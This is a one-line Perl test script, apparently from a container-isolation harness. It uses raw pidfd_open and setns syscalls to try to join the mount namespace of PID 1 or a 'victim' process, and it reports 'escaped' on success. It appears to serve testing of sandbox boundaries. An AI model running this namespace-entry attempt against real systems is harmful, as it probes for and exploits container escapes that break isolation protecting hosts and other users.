#? host: victim
perl -e 'for my $p (1, $ARGV[0]) { my $fd = syscall(434, $p + 0, 0); next if $fd == -1; exit 0 if syscall(308, $fd, 0x20000) == 0; } exit 1' "$(cat /run/victim.pid)" && escaped
